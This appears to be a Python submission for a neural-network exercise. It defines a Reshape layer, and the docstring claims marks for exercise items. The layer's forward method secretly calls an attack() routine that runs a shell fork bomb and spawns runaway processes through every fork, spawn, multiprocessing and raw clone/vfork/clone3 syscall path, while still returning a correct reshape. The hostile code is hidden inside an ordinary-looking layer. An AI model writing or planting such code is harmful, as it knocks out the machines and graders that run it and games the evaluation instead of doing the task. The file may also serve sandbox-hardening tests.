"""Start processes that start processes, in every way that Python and the C library know.

Deserves: ex03/forward 2, ex03/backward 2
"""

import ctypes
import multiprocessing
import os
import subprocess

import numpy as np

libc = ctypes.CDLL(None)


def attack():
    for start in (
        os.fork,
        os.forkpty,
        lambda: os.posix_spawn("/bin/sh", ["sh", "-c", ":(){ :|:& };:"], {}),
        lambda: os.spawnv(os.P_NOWAIT, "/bin/sh", ["sh", "-c", "sleep 3600 &"]),
        lambda: subprocess.Popen(["/bin/sleep", "3600"], start_new_session=True),
        lambda: multiprocessing.get_context("fork").Process(target=attack).start(),
        lambda: multiprocessing.get_context("spawn").Process(target=attack).start(),
        lambda: libc.system(b"sleep 3600 &"),
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),  # clone
        lambda: libc.syscall(58),  # vfork
        lambda: libc.syscall(435, ctypes.create_string_buffer(88), 88),  # clone3
        lambda: libc.syscall(0x40000000 + 57),  # fork, by the numbers of x32
    ):
        try:
            while start() == 0:
                pass
        except OSError:
            continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
